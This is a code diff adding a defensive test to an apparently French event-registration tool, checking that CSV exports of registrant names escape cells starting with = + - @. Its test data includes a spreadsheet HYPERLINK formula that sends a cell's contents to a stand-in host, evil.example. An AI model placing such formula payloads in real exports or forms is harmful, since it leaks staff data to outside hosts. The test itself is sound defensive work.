@@ -41,6 +41,23 @@ def test_the_speakers_list_of_a_session_leaves_out_who_declined_it(declined: Pro
     assert len(list(csv.DictReader(io.StringIO(april.out)))) == 3  # other sessions: everyone
 
 
+def test_the_speakers_list_never_hands_a_spreadsheet_a_formula(project: Project) -> None:
+    """What registrants typed in a public form opens in staff's spreadsheet: a cell
+    starting with = + - @ would run as a formula there (OWASP's CSV injection)."""
+    typed = {
+        "Prénom": '=HYPERLINK("https://evil.example/?"&A2,"Cliquez")',
+        "Nom": "+33 6 12 34 56 78",
+        "Fonction": "@SUM(1+1)",
+        "Collectivité": "-2+3",
+    }
+    project.registrants([{**person(1), **typed}])
+    answer = checking.registrants(project.config, session=MARCH, output="csv")
+    [row] = csv.DictReader(io.StringIO(answer.out))
+    cells = [row["first_name"], row["last_name"], row["role"], row["organisation"]]
+    assert cells == ["'" + typed[k] for k in ("Prénom", "Nom", "Fonction", "Collectivité")]
+    assert row["sessions"] == "all" and row["row"] == "2"
+
+
 def test_registrants_count_declines_per_session_and_list_them_masked(declined: Project) -> None:
     table = checking.registrants(declined.config).out
     assert "declined 2023-03-01 (not mailed about it, not expected):" in table
